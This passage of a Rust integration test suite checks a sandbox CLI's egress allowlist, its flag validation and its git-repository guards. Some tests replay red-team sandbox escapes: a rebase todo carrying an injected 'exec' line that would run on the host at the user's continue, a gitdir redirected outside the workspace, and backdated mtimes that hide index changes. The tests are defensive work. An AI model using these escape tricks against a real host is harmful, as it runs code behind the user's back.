        cmd.current_dir(&area.ws).args(["run", "--", "/bin/sh", "-c", "echo $HOME"]);
        match tmpdir {
            Some(t) => cmd.env("TMPDIR", t),
            None => cmd.env_remove("TMPDIR"),
        };
        let o = cmd.output().unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        std::path::PathBuf::from(String::from_utf8_lossy(&o.stdout).trim())
    };
    let shm_is_tmpfs =
        nix::sys::statfs::statfs("/dev/shm").is_ok_and(|s| s.filesystem_type() == nix::sys::statfs::TMPFS_MAGIC);
    let default = home_of(None);
    let expected = if shm_is_tmpfs {
        std::path::PathBuf::from(format!("/dev/shm/sandbox-cli-{uid}"))
    } else {
        fs::canonicalize(std::env::temp_dir()).unwrap().join(format!("sandbox-cli-{uid}"))
    };
    assert!(default.starts_with(&expected), "HOME {} is not under {}", default.display(), expected.display());
    let chosen = home_of(Some(&area.scratch));
    assert!(chosen.starts_with(area.scratch.join(format!("sandbox-cli-{uid}"))), "HOME {}", chosen.display());
    for home in [default, chosen] {
        let set = home.parent().unwrap();
        assert!(!set.exists(), "the run's set directory {} was left", set.display());
    }
}

/// A plain-HTTP origin on the host's loopback for the egress tests (issue 17): each request is
/// answered `origin <path> host=<Host header>` and closed. Its port, and the Host header of every
/// request it got.
fn http_origin() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
    use std::io::{BufRead, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let hosts = std::sync::Arc::clone(&seen);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.set_read_timeout(Some(std::time::Duration::from_secs(10)));
            let Ok(clone) = stream.try_clone() else { continue };
            let mut reader = std::io::BufReader::new(clone);
            let (mut request, mut host, mut line) = (String::new(), String::new(), String::new());
            if reader.read_line(&mut request).is_err() {
                continue;
            }
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                if let Some((name, value)) = line.split_once(':') {
                    if name.eq_ignore_ascii_case("host") {
                        host = value.trim().to_owned();
                    }
                }
                line.clear();
            }
            hosts.lock().unwrap().push(host.clone());
            let path = request.split_whitespace().nth(1).unwrap_or("");
            let body = format!("origin {path} host={host}\n");
            let _ =
                write!(stream, "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len());
        }
    });
    (port, seen)
}

/// `sandbox run --scratch ../scratch ARGS` in the area.
fn run_in(area: &Area, args: &[String]) -> std::process::Output {
    let mut all = vec![os("run"), os("--scratch"), os("../scratch")];
    all.extend(args.iter().map(|a| os(a)));
    area.sandbox(&refs(&all))
}

/// The `--json` object a run printed (exactly one object on stdout).
fn run_json(o: &std::process::Output) -> serde_json::Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| {
        panic!("{e}: {} / {}", String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr))
    })
}

/// `curl -fsS` through the proxy the environment names.
fn curl_args(url: &str) -> Vec<String> {
    ["curl", "-fsS", "--max-time", "10", url].iter().map(|s| (*s).to_owned()).collect()
}

fn strings(args: &[&str]) -> Vec<String> {
    args.iter().map(|s| (*s).to_owned()).collect()
}

/// Issue 17 through the CLI: `--allow-target` makes the default profile's network gated, and
/// with the origin's name pinned by `--resolve` curl reaches it through the egress proxy; the
/// JSON states no denial and the target-network guarantee, enforced. Plain mode passes the body
/// through and prints no denial.
#[test]
fn an_allowed_target_is_reached_through_the_egress_proxy() {
    if !sandbox_runs_here("an_allowed_target_is_reached_through_the_egress_proxy") {
        return;
    }
    let area = Area::new();
    let (port, seen) = http_origin();
    let target = format!("tcp:origin.test:{port}");
    let mut args = strings(&["--allow-target", &target, "--resolve", "origin.test:127.0.0.1", "--json", "--"]);
    args.extend(curl_args(&format!("http://origin.test:{port}/hello")));
    let o = run_in(&area, &args);
    let v = run_json(&o);
    assert_eq!(o.status.code(), Some(0), "{v}");
    assert_eq!(v["exit_code"], 0, "{v}");
    assert_eq!(v["stdout"], format!("origin /hello host=origin.test:{port}\n"), "{v}");
    assert_eq!(v["denials"], serde_json::json!([]), "{v}");
    assert!(v["guarantees"].as_array().unwrap().iter().any(|g| g == "target-network"), "{v}");
    let entry = v["report"].as_array().unwrap().iter().find(|e| e["feature"] == "target-network").cloned();
    assert_eq!(entry.unwrap_or_default()["status"], "enforced", "{v}");
    assert_eq!(*seen.lock().unwrap(), vec![format!("origin.test:{port}")]);
    // Plain mode: the body passes through, and no denial line.
    args.retain(|a| a != "--json");
    let o = run_in(&area, &args);
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(0), "{err}");
    assert_eq!(String::from_utf8_lossy(&o.stdout), format!("origin /hello host=origin.test:{port}\n"));
    assert!(!err.contains("network denied"), "{err}");
}

/// Issue 17 through the CLI: a name not on the list (pinned to the same loopback origin, so only
/// the allowlist refuses it) fails in curl, never reaches the origin, and is reported: as the
/// JSON's `denials`, and in plain mode as a `sandbox: network denied:` line on stderr after the
/// run. The allowed name in the same shape is the positive control.
#[test]
fn a_target_not_allowed_is_refused_and_reported() {
    if !sandbox_runs_here("a_target_not_allowed_is_refused_and_reported") {
        return;
    }
    let area = Area::new();
    let (port, seen) = http_origin();
    let target = format!("tcp:origin.test:{port}");
    let base = strings(&[
        "--allow-target",
        &target,
        "--resolve",
        "origin.test:127.0.0.1",
        "--resolve",
        "other.test:127.0.0.1",
    ]);
    let with = |json: bool, url: &str| {
        let mut args = base.clone();
        if json {
            args.push(String::from("--json"));
        }
        args.push(String::from("--"));
        args.extend(curl_args(url));
        run_in(&area, &args)
    };
    let o = with(true, &format!("http://other.test:{port}/"));
    let v = run_json(&o);
    let code = v["exit_code"].as_i64().unwrap_or_else(|| panic!("{v}"));
    assert_ne!(code, 0, "curl succeeded: {v}");
    assert_eq!(o.status.code().map(i64::from), Some(code), "the CLI exits with curl's code: {v}");
    let want = serde_json::json!([{"target": format!("tcp:other.test:{port}"), "reason": "not-allowed"}]);
    assert_eq!(v["denials"], want, "{v}");
    assert!(!v["stdout"].as_str().unwrap().contains("origin "), "{v}");
    assert!(seen.lock().unwrap().is_empty(), "the origin got the refused request: {:?}", seen.lock().unwrap());
    // Plain mode: curl's own error, then the CLI's denial line.
    let o = with(false, &format!("http://other.test:{port}/plain"));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.code().is_some_and(|c| c != 0 && c != 125), "{:?}: {err}", o.status);
    let line = format!("sandbox: network denied: tcp:other.test:{port}: not-allowed");
    assert_eq!(err.lines().last(), Some(line.as_str()), "{err}");
    assert_eq!(err.matches("network denied").count(), 1, "{err}");
    assert!(o.stdout.is_empty(), "{}", String::from_utf8_lossy(&o.stdout));
    assert!(seen.lock().unwrap().is_empty(), "the origin got the refused request");
    // The positive control: the allowed name, same flags.
    let o = with(false, &format!("http://origin.test:{port}/ok"));
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(String::from_utf8_lossy(&o.stdout), format!("origin /ok host=origin.test:{port}\n"));
}

/// Issue 17: bad `--resolve` and `--allow-target` values are clear errors naming the flag (exit
/// 125; 2 for a missing value), in `--json` mode the error object with that message, and nothing
/// runs or is written. `--allow-target` with a profile file whose network is not gated names
/// `--allow-target`.
#[test]
fn bad_network_flags_name_the_flag_and_run_nothing() {
    let area = Area::new();
    let deny = area.dir.path().join("deny.json");
    fs::write(
        &deny,
        format!(r#"{{"workspace_root": "{}", "workspace_write": "allow", "network": "deny"}}"#, area.ws.display()),
    )
    .unwrap();
    let deny = deny.display().to_string();
    let before = area.snapshot();
    let cases: [(&[&str], &str, &str, i32); 15] = [
        (&["--resolve", "nonsense"], "--resolve", "invalid_argument", 125),
        (&["--resolve", "a.test:0.0.0.0"], "--resolve", "invalid_argument", 125),
        (&["--allow-target", "tcp:0.0.0.0:80"], "--allow-target", "invalid_argument", 125),
        (&["--allow-target", "tcp:[::]:80"], "--allow-target", "invalid_argument", 125),
        (&["--resolve", "127.0.0.1:127.0.0.1"], "--resolve", "invalid_argument", 125),
        (&["--resolve", "a.test:notanip"], "--resolve", "invalid_argument", 125),
        (&["--resolve", ":127.0.0.1"], "--resolve", "invalid_argument", 125),
        (&["--resolve", "a.test:"], "--resolve", "invalid_argument", 125),
        (&["--allow-target", "udp:x:1"], "--allow-target", "invalid_argument", 125),
        (&["--allow-target", "tcp:*.com:1"], "--allow-target", "invalid_argument", 125),
        (&["--allow-target", "tcp:*:80"], "--allow-target", "invalid_argument", 125),
        (&["--allow-target", "tcp:x.test:0"], "--allow-target", "invalid_argument", 125),
        (&["--allow-target", "tcp:x.test"], "--allow-target", "invalid_argument", 125),
        (&["--profile", &deny, "--allow-target", "tcp:x.test:1"], "--allow-target", "invalid_argument", 125),
        (&["--allow-target"], "--allow-target", "", 2),
    ];
    for (flags, names, kind, code) in cases {
        for json in [false, true] {
            let mut args = strings(flags);
            if json {
                args.push(String::from("--json"));
            }
            args.extend(strings(&["--", "/usr/bin/touch", "ran"]));
            let o = run_in(&area, &args);
            let err = String::from_utf8_lossy(&o.stderr);
            assert_eq!(o.status.code(), Some(code), "{args:?}: {err}");
            assert!(!err.contains("panicked"), "{args:?}: {err}");
            if json && code == 125 {
                let v = run_json(&o);
                assert_eq!(v["error"], kind, "{args:?}: {v}");
                assert!(v["message"].as_str().is_some_and(|m| m.contains(names)), "{args:?}: {v}");
                assert_eq!((v["exit_code"].is_null(), v["denials"].clone()), (true, serde_json::json!([])), "{v}");
            } else {
                assert!(err.contains(names), "{args:?}: {err}");
                assert!(o.stdout.is_empty(), "{args:?}");
            }
            if code == 125 && !json {
                assert!(err.starts_with("sandbox: "), "{args:?}: {err}");
            }
        }
    }
    // A `--resolve` missing its value before `--`.
    let o = run_in(&area, &strings(&["--resolve", "--", "/usr/bin/touch", "ran"]));
    assert_eq!(o.status.code(), Some(2), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(String::from_utf8_lossy(&o.stderr).contains("--resolve"));
    assert_eq!(area.snapshot(), before, "a refused flag ran something or wrote something");
}

/// `--allow-target` with a `--profile` whose network is not gated (here a gated-command profile
/// that leaves network at its default, deny) is an invalid argument naming `--allow-target`,
/// the flag at fault, not a profile key the user never wrote; on `run` and `serve` alike.
#[test]
fn allow_target_with_a_non_gated_profile_names_the_flag() {
    let area = Area::new();
    let gated = area.dir.path().join("gated.json");
    fs::write(&gated, format!(r#"{{"workspace_root": "{}", "command": "gated"}}"#, area.ws.display())).unwrap();
    let before = area.snapshot();
    let flags = [os("--profile"), gated.into_os_string(), os("--allow-target"), os("tcp:127.0.0.1:18901")];
    let want =
        r#"invalid argument: --allow-target: needs a profile whose network is "gated"; the --profile file's is "deny""#;
    let mut args = vec![os("run"), os("--scratch"), os("../scratch")];
    args.extend(flags.iter().cloned());
    args.extend([os("--"), os("/usr/bin/touch"), os("ran")]);
    let o = area.sandbox(&refs(&args));
    assert_eq!(o.status.code(), Some(125));
    assert_eq!(String::from_utf8_lossy(&o.stderr), format!("sandbox: {want}\n"));
    let o = Command::new(SANDBOX)
        .current_dir(&area.ws)
        .arg("serve")
        .args(&flags)
        .args([os("--scratch"), os("../scratch")])
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125));
    let v = run_json(&o);
    assert_eq!((&v["error"], &v["message"]), (&serde_json::json!("invalid_argument"), &serde_json::json!(want)));
    assert_eq!(area.snapshot(), before);
}

/// Issue 17: a profile file with `"network": "gated"` and its own `network_targets` needs only
/// `--resolve` for a pinned origin (a name not listed is still refused); a gated profile file
/// without targets gets them from `--allow-target`.
#[test]
fn a_profile_file_with_network_targets_needs_only_resolve() {
    if !sandbox_runs_here("a_profile_file_with_network_targets_needs_only_resolve") {
        return;
    }
    let area = Area::new();
    let (port, seen) = http_origin();
    let profile = |name: &str, targets: &[String]| {
        let json = serde_json::json!({
            "workspace_root": area.ws.display().to_string(),
            "workspace_read": "allow",
            "workspace_write": "allow",
            "host_read": "allow",
            "command": "allow",
            "network": "gated",
            "network_targets": targets,
        });
        let file = area.dir.path().join(name);
        fs::write(&file, json.to_string()).unwrap();
        file.display().to_string()
    };
    let listed = profile("listed.json", &[format!("tcp:origin.test:{port}")]);
    let pins = ["--resolve", "origin.test:127.0.0.1", "--resolve", "other.test:127.0.0.1"];
    let mut args = strings(&["--profile", &listed, "--json"]);
    args.extend(strings(&pins));
    args.push(String::from("--"));
    let mut ok = args.clone();
    ok.extend(curl_args(&format!("http://origin.test:{port}/listed")));
    let v = run_json(&run_in(&area, &ok));
    assert_eq!(v["exit_code"], 0, "{v}");
    assert_eq!(v["stdout"], format!("origin /listed host=origin.test:{port}\n"), "{v}");
    assert_eq!(v["denials"], serde_json::json!([]), "{v}");
    assert!(v["guarantees"].as_array().unwrap().iter().any(|g| g == "target-network"), "{v}");
    let mut refused = args;
    refused.extend(curl_args(&format!("http://other.test:{port}/")));
    let v = run_json(&run_in(&area, &refused));
    assert_ne!(v["exit_code"], 0, "{v}");
    let want = serde_json::json!([{"target": format!("tcp:other.test:{port}"), "reason": "not-allowed"}]);
    assert_eq!(v["denials"], want, "{v}");
    // A gated profile without targets: nothing is allowed until `--allow-target` adds one.
    let empty = profile("empty.json", &[]);
    let mut args = strings(&["--profile", &empty, "--json"]);
    args.extend(strings(&pins));
    let url = format!("http://origin.test:{port}/added");
    let mut bare = args.clone();
    bare.push(String::from("--"));
    bare.extend(curl_args(&url));
    let v = run_json(&run_in(&area, &bare));
    assert_ne!(v["exit_code"], 0, "{v}");
    let want = serde_json::json!([{"target": format!("tcp:origin.test:{port}"), "reason": "not-allowed"}]);
    assert_eq!(v["denials"], want, "{v}");
    args.extend(strings(&["--allow-target", &format!("tcp:origin.test:{port}"), "--"]));
    args.extend(curl_args(&url));
    let v = run_json(&run_in(&area, &args));
    assert_eq!(v["exit_code"], 0, "{v}");
    assert_eq!(v["stdout"], format!("origin /added host=origin.test:{port}\n"), "{v}");
    assert_eq!(seen.lock().unwrap().len(), 2, "only the two allowed requests arrived: {:?}", seen.lock().unwrap());
}

/// Issue 17: `sandbox serve` takes the same `--allow-target` and `--resolve`: each answer carries
/// its run's `denials`, and the allowed name works beside a refused one.
#[test]
fn serve_takes_the_network_flags_and_answers_denials() {
    use std::io::Write;
    if !sandbox_runs_here("serve_takes_the_network_flags_and_answers_denials") {
        return;
    }
    let area = Area::new();
    let (port, seen) = http_origin();
    let flags = [
        os("--allow-target"),
        os(&format!("tcp:origin.test:{port}")),
        os("--resolve"),
        os("origin.test:127.0.0.1"),
        os("--resolve"),
        os("other.test:127.0.0.1"),
    ];
    let (mut child, mut stdin, mut lines) = spawn_serve(&area, &flags);
    let mut ask = |id: u32, host: &str| -> serde_json::Value {
        let argv = curl_args(&format!("http://{host}:{port}/serve"));
        writeln!(stdin, "{}", serde_json::json!({"id": id, "argv": argv})).unwrap();
        serde_json::from_str(&lines.next().unwrap().unwrap()).unwrap()
    };
    let ok = ask(1, "origin.test");
    assert_eq!(ok["exit_code"], 0, "{ok}");
    assert_eq!(ok["stdout"], format!("origin /serve host=origin.test:{port}\n"), "{ok}");
    assert_eq!(ok["denials"], serde_json::json!([]), "{ok}");
    let refused = ask(2, "other.test");
    assert_ne!(refused["exit_code"], 0, "{refused}");
    let want = serde_json::json!([{"target": format!("tcp:other.test:{port}"), "reason": "not-allowed"}]);
    assert_eq!(refused["denials"], want, "{refused}");
    drop(stdin);
    assert!(child.wait().unwrap().success());
    assert_eq!(seen.lock().unwrap().len(), 1, "{:?}", seen.lock().unwrap());
    // A bad flag: serve answers one error line (id null) naming it and exits 125.
    for flag in [["--resolve", "nonsense"], ["--allow-target", "udp:x:1"]] {
        serve_answers_bad_flag(&area, flag);
    }
}

/// From a directory that no longer exists, `proof` and `probe` still run (they use fresh
/// temporary directories; the helper no longer inherits the caller's directory, whose failed
/// `getcwd` made every container fail and was reported as a host without user namespaces);
/// `run`, whose default workspace is that directory, names it. A probe whose set is refused
/// (an invalid `SANDBOX_CGROUP_PARENT`) never says that nothing is missing: it names the reason
/// as a finding. Control: a valid directory runs.
#[test]
fn a_removed_current_directory_or_a_bad_setting_is_named_not_blamed_on_the_host() {
    if !sandbox_runs_here("a_removed_current_directory_or_a_bad_setting_is_named_not_blamed_on_the_host") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let gone = dir.path().join("gone");
    fs::create_dir(&gone).unwrap();
    let mut child = Command::new("/bin/sh")
        .current_dir(&gone)
        .args(["-c", &format!("rmdir {} && exec \"$0\" proof", gone.display()), SANDBOX])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = String::new();
    std::io::Read::read_to_string(child.stdout.as_mut().unwrap(), &mut out).unwrap();
    assert!(child.wait().unwrap().success(), "proof from a removed directory: {out}");
    assert!(out.contains("confined"), "{out}");
    let o = Command::new("/bin/sh")
        .current_dir(dir.path())
        .args(["-c", "mkdir g && cd g && rmdir ../g && exec \"$0\" run -- /bin/true", SANDBOX])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert_eq!(o.status.code(), Some(125), "{err}");
    assert!(err.contains("current directory") && !err.contains("user namespaces"), "{err}");
    let o = Command::new(SANDBOX).args(["probe", "--json"]).env("SANDBOX_CGROUP_PARENT", "relative").output().unwrap();
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["available"], false, "{v}");
    let findings = v["findings"].as_array().unwrap();
    assert!(findings.iter().any(|f| f["missing"].as_str().unwrap().contains("SANDBOX_CGROUP_PARENT")), "{v}");
    // A TMPDIR that does not exist is named; an empty one counts as unset; the probe answers
    // (exit 0, a finding) rather than failing.
    let o = Command::new(SANDBOX)
        .current_dir(dir.path())
        .env("TMPDIR", "/nonexistent-tmpdir")
        .args(["run", "--", "/bin/true"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.code() == Some(125) && err.contains("TMPDIR: /nonexistent-tmpdir"), "{err}");
    let o = Command::new(SANDBOX).env("TMPDIR", "/nonexistent-tmpdir").args(["probe", "--json"]).output().unwrap();
    assert_eq!(o.status.code(), Some(0));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert!(v["reason"].as_str().unwrap().contains("TMPDIR"), "{v}");
    assert!(!v["findings"].as_array().unwrap().is_empty(), "{v}");
    let o = Command::new(SANDBOX)
        .current_dir(dir.path())
        .env("TMPDIR", "")
        .args(["run", "--", "/bin/echo", "ok"])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&o.stdout), "ok\n", "{}", String::from_utf8_lossy(&o.stderr));
    // Control.
    let o = Command::new(SANDBOX).current_dir(dir.path()).args(["run", "--", "/bin/echo", "ok"]).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&o.stdout), "ok\n");
}

/// A default scratch root that another user made first (squatted: not an owner-only
/// directory of ours) is passed over for the next default place, never used, and the error, when
/// none is left, speaks of the default scratch root, not of a `--scratch` that was not passed
/// (a black-box audit: any local user could keep another from running without `--scratch`).
/// Control: nothing was written into the squatted directory.
#[test]
fn a_squatted_default_scratch_root_is_passed_over() {
    if !sandbox_runs_here("a_squatted_default_scratch_root_is_passed_over") {
        return;
    }
    use std::os::unix::fs::{MetadataExt, PermissionsExt};
    let tmp = tempfile::tempdir().unwrap();
    let uid = fs::metadata("/proc/self").unwrap().uid();
    let squat = tmp.path().join(format!("sandbox-cli-{uid}"));
    fs::create_dir(&squat).unwrap();
    fs::set_permissions(&squat, fs::Permissions::from_mode(0o777)).unwrap();
    let ws = tempfile::Builder::new().prefix("sbx-squat-ws").tempdir_in("/var/tmp").unwrap();
    let o = Command::new(SANDBOX)
        .current_dir(ws.path())
        .env("TMPDIR", tmp.path())
        .args(["run", "--", "/bin/echo", "ran"])
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&o.stdout), "ran\n", "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(fs::read_dir(&squat).unwrap().count(), 0, "the squatted directory was used");
}

/// A run refused once its executor exists (`command` gated, no grant) answers `--json` with
/// that executor's level, guarantees and report (CONTRACT.md §6: a sandboxed profile's level is
/// never `none`), as serve does, not the empty ones of a run that could not start at all.
/// Control: the same profile's error names `grant_required`, and exit status is 125.
#[test]
fn a_refused_run_reports_its_executors_level_in_json() {
    if !sandbox_runs_here("a_refused_run_reports_its_executors_level_in_json") {
        return;
    }
    let dir = tempfile::Builder::new().prefix("sbx-refused").tempdir_in("/var/tmp").unwrap();
    let profile = dir.path().join("gated.json");
    fs::write(
        &profile,
        format!(r#"{{"workspace_root": "{}", "workspace_read": "allow", "command": "gated"}}"#, dir.path().display()),
    )
    .unwrap();
    let o = Command::new(SANDBOX)
        .current_dir(dir.path())
        .args(["run", "--json", "--profile"])
        .arg(&profile)
        .args(["--", "/bin/true"])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(125));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["error"], "grant_required", "{v}");
    assert_ne!(v["level"], "none", "{v}");
    assert!(v["guarantee_bits"].as_u64().unwrap() > 0, "{v}");
    assert!(v["guarantees"].as_array().unwrap().iter().any(|g| g == "env-scrub"), "{v}");
    assert!(!v["report"].as_array().unwrap().is_empty(), "{v}");
}

/// SIGINT and SIGTERM sent to `sandbox run` reach the workload (a Ctrl-C reaches its handler),
/// and the CLI exits with the workload's status: its handler's code, or 128 + the signal when
/// it has none (before, the CLI died of the signal and the tree was killed: no handler ran).
#[test]
fn signals_to_the_cli_reach_the_workload() {
    if !sandbox_runs_here("signals_to_the_cli_reach_the_workload") {
        return;
    }
    let dir = tempfile::Builder::new().prefix("sbx-signals").tempdir_in("/var/tmp").unwrap();
    let cases = [
        ("INT", "trap 'echo got INT; exit 5' INT; ", Some(5), "got INT\n"),
        ("TERM", "trap 'echo got TERM; exit 7' TERM; ", Some(7), "got TERM\n"),
        ("INT", "", Some(130), ""),
    ];
    for (signal, trap, want, said) in cases {
        let script = format!("{trap}echo ready; while :; do sleep 0.1; done");
        let mut child = Command::new(SANDBOX)
            .current_dir(dir.path())
            .args(["run", "--", "/bin/sh", "-c", &script])
            .stdout(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut out = child.stdout.take().unwrap();
        let mut ready = [0u8; 6];
        std::io::Read::read_exact(&mut out, &mut ready).unwrap();
        assert_eq!(&ready, b"ready\n");
        let st = Command::new("kill").args([format!("-{signal}"), child.id().to_string()]).status().unwrap();
        assert!(st.success());
        let mut rest = String::new();
        std::io::Read::read_to_string(&mut out, &mut rest).unwrap();
        let status = child.wait().unwrap();
        assert_eq!((status.code(), rest.as_str()), (want, said), "SIG{signal} with {trap:?}");
    }
}

/// A `git worktree move` that is a one-shot run's last act still records the new place in the
/// worktree's entry (the guard publishes a staged `gitdir` when the run ends, not only at its
/// next call), and a `gitdir` that names a place the run may not write is not published even
/// then (the host's `git worktree repair` would write a `.git` file there: red team X, 5
/// December).
#[test]
fn a_worktree_entry_records_a_move_that_ends_the_run() {
    if !sandbox_runs_here("a_worktree_entry_records_a_move_that_ends_the_run") {
        return;
    }
    let area = Area::new();
    let git = |args: &[&str]| {
        git_ok(&area.ws, args);
    };
    git(&["init", "-q", "-b", "main", "proj"]);
    git(&["-C", "proj", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "x"]);
    let run = |script: &str| {
        let o = area.sandbox(&refs(&[os("run"), os("--"), os("sh"), os("-c"), os(script)]));
        assert_eq!(o.status.code(), Some(0), "{script}: {}", String::from_utf8_lossy(&o.stderr));
    };
    let gitdir =
        |entry: &str| fs::read_to_string(area.ws.join("proj/.git/worktrees").join(entry).join("gitdir")).unwrap();
    let names = |wt: &str| format!("{}/.git\n", area.ws.join(wt).display());
    run("git -C proj worktree add -q -b a ../wtA");
    assert_eq!(gitdir("wtA"), names("wtA"));
    // In one run (a `.git` an earlier run made is the host's for the next, and not moved).
    run("git -C proj worktree add -q -b c ../wtC && git -C proj worktree move ../wtC ../wtD");
    assert_eq!(gitdir("wtC"), names("wtD"));
    let outside = area.dir.path().join("outside");
    fs::create_dir(&outside).unwrap();
    run(&format!(
        "git -C proj worktree add -q -b e ../wtE && printf '%s/.git\\n' '{}' > proj/.git/worktrees/wtE/gitdir",
        outside.display()
    ));
    assert_eq!(gitdir("wtE"), names("wtE"));
    git(&["-C", "proj", "worktree", "repair"]);
    assert!(!outside.join(".git").exists());
}

/// A one-shot run that leaves an interactive rebase in a host repository with an `exec` line in
/// its todo leaves no rebase in progress: its state is moved aside when the run ends (red team
/// AE, 5 December: the user's `git rebase --continue` ran the command on the host). Control: a
/// rebase stopped on a conflict with nothing to run stays in progress for the user.
#[test]
fn a_rebase_a_one_shot_run_leaves_runs_nothing_at_the_users_continue() {
    if !sandbox_runs_here("a_rebase_a_one_shot_run_leaves_runs_nothing_at_the_users_continue") {
        return;
    }
    let area = Area::new();
    let git = |dir: &str, args: &[&str]| {
        let o = git_in(&area.ws.join(dir), args);
        (o.status.success(), String::from_utf8_lossy(&o.stderr).into_owned())
    };
    for repo in ["evil", "fine"] {
        assert!(git("", &["init", "-q", "-b", "main", repo]).0);
        for (branch, text) in [("main", "a"), ("topic", "t")] {
            if branch == "topic" {
                assert!(git(repo, &["checkout", "-qb", "topic", "HEAD~0"]).0);
            }
            fs::write(area.ws.join(repo).join("f"), text).unwrap();
            assert!(git(repo, &["add", "f"]).0 && git(repo, &["commit", "-qm", text]).0);
        }
        assert!(git(repo, &["checkout", "-q", "main"]).0);
        fs::write(area.ws.join(repo).join("f"), "m").unwrap();
        assert!(git(repo, &["commit", "-qam", "m"]).0);
        assert!(git(repo, &["checkout", "-q", "topic"]).0);
    }
    let script = "cd evil && GIT_SEQUENCE_EDITOR=\"printf 'break\\nexec touch ../ran\\n' >\" \
                  git -c user.name=t -c user.email=t@t rebase -i main >/dev/null 2>&1; test -d .git/rebase-merge && \
                  cd ../fine && git -c user.name=t -c user.email=t@t rebase main >/dev/null 2>&1; test -d .git/rebase-merge";
    let o = area.sandbox(&refs(&[os("run"), os("--"), os("sh"), os("-c"), os(script)]));
    assert_eq!(o.status.code(), Some(0), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(!area.ws.join("evil/.git/rebase-merge").exists());
    assert!(area.ws.join("evil/.git/rebase-merge.refused-by-sandbox").is_dir());
    let (continued, said) = git("evil", &["rebase", "--continue"]);
    assert!(!continued && !area.ws.join("ran").exists(), "{said}");
    assert!(area.ws.join("fine/.git/rebase-merge").is_dir(), "control: the safe rebase is in progress");
}

/// A one-shot run's index writes in a host repository keep what git needs, and hide nothing:
/// a file added and then rewritten within the same second (same size, its mtime dated back) shows
/// both changes in the user's `git status` once the run has returned (the entry is checked again
/// at the run's end, before the CLI exits); control: a quick sequence of commits and a
/// cherry-pick inside the run stops on its conflict as git does outside, without "Your local
/// changes would be overwritten" (an entry smudged at once made git's sequencer refuse). The
/// workload leaves git's `index.lock` behind (the check does not wait for it), the index
/// unreadable and the git directory read-only (the check gives the owner's permissions back).
/// An index written before the check, put back after it, hides nothing either.
#[test]
fn a_one_shot_runs_index_hides_a_change_made_within_its_second_from_no_one() {
    if !sandbox_runs_here("a_one_shot_runs_index_hides_a_change_made_within_its_second_from_no_one") {
        return;
    }
    let area = Area::new();
    let git = |args: &[&str]| git_ok(&area.ws, args);
    git(&["init", "-q", "-b", "main"]);
    fs::create_dir(area.ws.join("d")).unwrap();
    for f in ["f", "racy", "d/racy2", "capped"] {
        fs::write(area.ws.join(f), "original\n").unwrap();
    }
    // Another user's file carrying a file capability, which the workload cannot change.
    let capped = area.ws.join("capped");
    let setcap = Command::new("chown").arg("nobody").arg(&capped).status().is_ok_and(|s| s.success())
        && Command::new("setcap").arg("cap_net_raw+ep").arg(&capped).status().is_ok_and(|s| s.success());
    if !setcap {
        println!("note: chown nobody or setcap failed: the capability check is not made");
    }
    git(&["add", "."]);
    git(&["commit", "-qm", "one"]);
    let script = r#"
import os, subprocess
G = ["git", "-c", "user.name=t", "-c", "user.email=t@t"]
def git(*a):
    return subprocess.run(G + list(a), capture_output=True, text=True)
# The control: a checkout, commits and a cherry-pick that stops on its conflict.
for step in (["checkout", "-qb", "topic"], ("f", "b\n"), ["commit", "-qam", "b"], ["checkout", "-q", "main"], ("f", "d\n"), ["commit", "-qam", "d"]):
    if isinstance(step, tuple):
        open(step[0], "w").write(step[1])
    else:
        assert git(*step).returncode == 0, step
r = git("cherry-pick", "topic")
print("cherry-pick:", r.returncode, "overwritten" in r.stderr, "CONFLICT" in r.stdout)
git("cherry-pick", "--abort")
# The attack: added, then rewritten within the second, dated back both times.
open("racy", "w").write("CHANGED1\n")
os.utime("racy", (1700000000, 1700000000))
git("add", "racy")
st = os.stat("racy")
open("racy", "w").write("CHANGED2\n")
os.utime("racy", ns=(st.st_atime_ns, st.st_mtime_ns))
print("same second:", int(os.stat("racy").st_ctime) == int(st.st_ctime))
# The same in a directory the workload makes unreadable before it ends (red team AJ).
open("d/racy2", "w").write("CHANGED1\n")
os.utime("d/racy2", (1700000000, 1700000000))
git("add", "d/racy2")
st = os.stat("d/racy2")
open("d/racy2", "w").write("CHANGED2\n")
os.utime("d/racy2", ns=(st.st_atime_ns, st.st_mtime_ns))
# Another user's file with a capability, its ctime changed by renames around an index write
# within the second: the check at the end must not drop the capability (red team AJ).
os.rename("capped", "c2"); os.rename("c2", "capped")
git("update-index", "--refresh")
os.rename("capped", "c2"); os.rename("c2", "capped")
